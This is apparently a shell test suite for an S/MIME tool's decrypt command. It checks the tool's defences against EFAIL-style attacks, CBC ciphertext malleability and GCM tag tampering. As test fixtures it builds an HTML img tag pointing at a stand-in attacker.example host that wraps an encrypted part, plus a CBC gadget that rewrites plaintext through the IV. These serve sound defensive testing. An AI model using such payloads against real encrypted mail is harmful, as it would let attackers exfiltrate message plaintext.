#!/bin/sh
# Encryption attacks of the EFAIL family (Poddebniak et al., 2018) and
# what inkan decrypt does with them: an encrypted part wrapped in
# unencrypted HTML is never decrypted into one output with that HTML; a
# modified CBC ciphertext never yields a valid signature; a GCM tag that
# does not match writes nothing at all.  TAP output.
. "$(dirname "$0")/../lib.sh"
need python3 python3
need openssl openssl
. "$(dirname "$0")/common.sh"

BOB="-k $PKI/bob.p12 $PF"
OUT="$T/out.eml"
# dv FILE: "verdict:flags" of inkan decrypt --json as bob (output to $OUT).
dv() {
  rm -f "$OUT"
  "$INKAN" decrypt --json $BOB $TRUST -o "$OUT" "$1" >"$T/dv.json" 2>"$T/dv.err"
  drc=$?
  json_verdict <"$T/dv.json" 2>/dev/null || echo "error:$drc"
}
# dis WANT DESCRIPTION FILE: decrypt verdict is exactly WANT.
dis() {
  got=$(dv "$3")
  if [ "$got" = "$1" ]; then ok "$2 ($1)"; else not_ok "$2: want $1, got $got"; sed 's/^/# /' "$T/dv.err"; fi
}
absent() { [ ! -e "$1" ] && ! ls "$1".* >/dev/null 2>&1; }

check "encrypt plain.eml to bob (AES-256-CBC)" "$INKAN" encrypt -r "$PKI/bob.cert.pem" -o "$T/enc.eml" "$MAIL/plain.eml"
check "alice signs, then encrypts to bob (AES-256-CBC)" \
  "$INKAN" encrypt --sign -k "$PKI/alice.p12" $PF -r "$PKI/bob.cert.pem" -o "$T/senc.eml" "$MAIL/plain.eml"
check "alice signs, then encrypts to bob (AES-256-GCM)" \
  "$INKAN" encrypt --sign --cipher aes-256-gcm -k "$PKI/alice.p12" $PF -r "$PKI/bob.cert.pem" -o "$T/gcm.eml" "$MAIL/plain.eml"
dis "not-signed:encrypted" "baseline: encrypted only" "$T/enc.eml"
dis "valid:encrypted" "baseline: signed then encrypted (CBC)" "$T/senc.eml"
dis "valid:encrypted" "baseline: signed then encrypted (GCM)" "$T/gcm.eml"

# ---------------------------------------------------------------- encrypted part wrapped in unencrypted HTML
body_of "$T/enc.eml" >"$T/enc.part"
check "the extracted part is the envelope" grep -q '^Content-Type: application/pkcs7-mime' "$T/enc.part"
# wrap OUT SUBTYPE PARTS...: multipart/SUBTYPE from alice around the parts.
wrap() {
  out=$1 sub=$2; shift 2
  { hdr 'Alice Example <alice@example.org>' 'wrapped'
    printf 'Content-Type: multipart/%s; boundary="efail"\n\n' "$sub"
    for p in "$@"; do printf -- '--efail\n'; cat "$p"; printf '\n'; done
    printf -- '--efail--\n'; } >"$out"
}
printf 'Content-Type: text/html\n\n<img src="http://attacker.example/' >"$T/open.part"
printf 'Content-Type: text/html\n\n">\n' >"$T/close.part"
printf 'Content-Type: text/plain\n\n-- \nmailing list footer\n' >"$T/footer.part"
wrap "$T/efail.eml" mixed "$T/open.part" "$T/enc.part" "$T/close.part"
rm -f "$OUT"; expect_rc 2 "encrypted part between two HTML parts: decrypt refuses (exit 2)" "$INKAN" decrypt $BOB -o "$OUT" "$T/efail.eml"
check "... no output file" absent "$OUT"
check "... nothing on stdout" test ! -s "$T/out"
check "... one line on stderr" test "$(wc -l <"$T/err")" -eq 1
check "... which names part 2 as the encrypted part" grep -q 'part 2' "$T/err"
expect_rc 2 "... also without -o: exit 2" "$INKAN" decrypt $BOB "$T/efail.eml"
check "... and stdout stays empty" test ! -s "$T/out"
is "not-signed:" "verify of the wrapped mail" "$T/efail.eml"

wrap "$T/efail-footer.eml" mixed "$T/enc.part" "$T/footer.part"
rm -f "$OUT"; expect_rc 2 "encrypted part with a list footer appended: decrypt refuses (exit 2)" "$INKAN" decrypt $BOB -o "$OUT" "$T/efail-footer.eml"
check "... names part 1" grep -q 'part 1' "$T/err"
check "... no output file" absent "$OUT"
printf 'Content-Type: text/html\n\n<iframe src="cid:enc@example.org"></iframe>\n' >"$T/cid.part"
{ printf 'Content-ID: <enc@example.org>\n'; cat "$T/enc.part"; } >"$T/enc-cid.part"
wrap "$T/efail-related.eml" related "$T/cid.part" "$T/enc-cid.part"
rm -f "$OUT"; expect_rc 2 "encrypted part referenced by cid: from HTML: decrypt refuses" "$INKAN" decrypt $BOB -o "$OUT" "$T/efail-related.eml"
check "... no output file" absent "$OUT"
wrap "$T/efail-alt.eml" alternative "$T/open.part" "$T/enc.part"
rm -f "$OUT"; expect_rc 2 "encrypted part as one multipart/alternative: decrypt refuses" "$INKAN" decrypt $BOB -o "$OUT" "$T/efail-alt.eml"
# An encrypted part inside a signed mail (the signature covers the wrapper).
check "alice signs a mixed mail that carries the encrypted part" \
  "$INKAN" sign -k "$PKI/alice.p12" $PF -o "$T/signed-wrap.eml" "$T/efail-footer.eml"
rm -f "$OUT"; expect_rc 2 "signed mail holding an encrypted part: decrypt refuses" "$INKAN" decrypt $BOB -o "$OUT" "$T/signed-wrap.eml"
check "... names part 1.1" grep -q 'part 1\.1' "$T/err"
check "... no output file" absent "$OUT"

# ---------------------------------------------------------------- the plaintext holds a signed part
# (a forwarded signed mail, encrypted whole): decrypt reports it the way
# verify does, as partially signed, with its part number.
check "alice signs plain.eml" "$INKAN" sign -k "$PKI/alice.p12" $PF -o "$T/signed.eml" "$MAIL/plain.eml"
{ hdr 'Bob Example <bob@example.org>' 'Fwd'
  printf 'Content-Type: multipart/mixed; boundary="fwd"\n\n--fwd\nContent-Type: text/plain\n\nFYI\n\n--fwd\nContent-Type: message/rfc822\n\n'
  cat "$T/signed.eml"; printf '\n--fwd--\n'; } >"$T/fwd.eml"
is "valid-signature:from-mismatch,partially-signed" "verify: a forwarded signed mail" "$T/fwd.eml"
check "bob encrypts the forward to himself" "$INKAN" encrypt -r "$PKI/bob.cert.pem" -o "$T/fwd-enc.eml" "$T/fwd.eml"
dis "valid-signature:from-mismatch,partially-signed,encrypted" "decrypt: the same forward, encrypted" "$T/fwd-enc.eml"
check "... signed part 2" test "$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["signed_part"])' "$T/dv.json")" = 2

# ---------------------------------------------------------------- modified CBC ciphertext (malleability)
smime_der "$T/senc.eml" "$T/senc.der"
openssl cms -decrypt -binary -inform DER -in "$T/senc.der" -recip "$PKI/bob.cert.pem" -inkey "$PKI/bob.key.pem" -out "$T/senc.plain" 2>/dev/null
check "the signed plaintext starts with its Content-Type" test "$(head -c 16 "$T/senc.plain")" = "Content-Type: mu"
# CBC gadget on block 1 through the IV: "Content-Type: mu" -> "X-Type: text\r\n\r\n",
# which turns the whole multipart/signed into text after an empty header.
mask=$(python3 -c 'import sys; a=b"Content-Type: mu"; b=b"X-Type: text\r\n\r\n"; print(bytes(x^y for x,y in zip(a,b)).hex())')
$DER iv-xor "$T/senc.der" "$mask" "$T/senc-iv.der"
smime_put "$T/senc.eml" "$T/senc-iv.der" "$T/senc-iv.eml"
dis "not-signed:encrypted" "CBC: first plaintext block rewritten through the IV" "$T/senc-iv.eml"
check "... the plaintext is shown as text, the injected header included" grep -q '^X-Type: text' "$OUT"
# A byte flipped in the middle of the ciphertext garbles the signed text.
off=$(python3 -c 'import sys; d=open(sys.argv[1],"rb").read(); print((d.index(b"Thursday")//16 - 1)*16 + 3)' "$T/senc.plain")
$DER content-xor "$T/senc.der" "$off" 01 "$T/senc-mid.der"
smime_put "$T/senc.eml" "$T/senc-mid.der" "$T/senc-mid.eml"
dis "invalid:encrypted" "CBC: a ciphertext byte flipped inside the signed text" "$T/senc-mid.eml"
rm -f "$OUT"; expect_rc 1 "... decrypt exits 1" "$INKAN" decrypt $BOB -o "$OUT" "$T/senc-mid.eml"
# The same on a mail that is only encrypted: inkan cannot notice (CBC has
# no integrity); the verdict never claims a signature.
smime_der "$T/enc.eml" "$T/enc.der"
$DER iv-xor "$T/enc.der" "$mask" "$T/enc-iv.der"
smime_put "$T/enc.eml" "$T/enc-iv.der" "$T/enc-iv.eml"
dis "not-signed:encrypted" "CBC without signature: the rewrite is not detectable" "$T/enc-iv.eml"
# Truncated ciphertext (one block short): bad padding or nothing at all.
$DER content-truncate "$T/senc.der" 16 "$T/senc-short.der"
smime_put "$T/senc.eml" "$T/senc-short.der" "$T/senc-short.eml"
got=$(dv "$T/senc-short.eml")
case $got in
  error:9) ok "CBC one block short: decryption fails (exit 9)"; check "... no output file" absent "$OUT";;
  invalid:encrypted|not-signed:encrypted) ok "CBC one block short: decrypts to a damaged, unsigned or invalid mail ($got)";;
  *) not_ok "CBC one block short: got $got";;
esac

# ---------------------------------------------------------------- GCM: a tag failure writes nothing
smime_der "$T/gcm.eml" "$T/gcm.der"
len=$($DER content-length "$T/gcm.der")
check "GCM ciphertext length read ($len)" test "$len" -gt 100
for case in "mac-xor 80" "mac-truncate 8" "mac-truncate 12" "content-xor 0 01" "content-xor -1 80" "iv-xor 01" "content-truncate 16"; do
  set -- $case
  op=$1; shift
  $DER "$op" "$T/gcm.der" "$@" "$T/gcm-bad.der"
  smime_put "$T/gcm.eml" "$T/gcm-bad.der" "$T/gcm-bad.eml"
  printf 'previous content\n' >"$T/keep.eml"
  expect_rc 9 "GCM $case: decrypt fails with exit 9" "$INKAN" decrypt $BOB -o "$T/keep.eml" "$T/gcm-bad.eml"
  check "GCM $case: the existing output file is unchanged" grep -qx 'previous content' "$T/keep.eml"
  check "GCM $case: no temporary file left" sh -c '! ls "$1".* >/dev/null 2>&1' - "$T/keep.eml"
  expect_rc 9 "GCM $case to stdout: exit 9" "$INKAN" decrypt $BOB "$T/gcm-bad.eml"
  check "GCM $case: nothing at all on stdout" test ! -s "$T/out"
  check "GCM $case: one line on stderr" test "$(wc -l <"$T/err")" -eq 1
done
# A 12-byte prefix of the tag is a valid GCM tag of RFC 5084's shortest
# length; below 12 inkan refuses (checked above: 8 and 4 bytes left).
$DER mac-truncate "$T/gcm.der" 4 "$T/gcm-12.der"
smime_put "$T/gcm.eml" "$T/gcm-12.der" "$T/gcm-12.eml"
dis "valid:encrypted" "GCM tag cut to its first 12 bytes (RFC 5084 minimum)" "$T/gcm-12.eml"
$DER mac-truncate "$T/gcm.der" 8 "$T/gcm-8.der"
smime_put "$T/gcm.eml" "$T/gcm-8.der" "$T/gcm-8.eml"
rm -f "$OUT"; expect_rc 9 "GCM tag cut to 8 bytes: exit 9" "$INKAN" decrypt $BOB -o "$OUT" "$T/gcm-8.eml"
check "... the error names the tag length" grep -q 'tag is 8 bytes long' "$T/err"
# The label does not decide: authEnveloped content labelled enveloped-data.
sed 's/smime-type=authEnveloped-data/smime-type=enveloped-data/' "$T/gcm.eml" >"$T/gcm-label.eml"
dis "valid:encrypted" "GCM mail labelled enveloped-data still decrypts as AuthEnvelopedData" "$T/gcm-label.eml"
$DER mac-xor "$T/gcm.der" 01 "$T/gcm-bad.der"
smime_put "$T/gcm-label.eml" "$T/gcm-bad.der" "$T/gcm-label-bad.eml"
rm -f "$OUT"; expect_rc 9 "... and with a bad tag still fails (exit 9)" "$INKAN" decrypt $BOB -o "$OUT" "$T/gcm-label-bad.eml"
check "... no output file" absent "$OUT"
finish
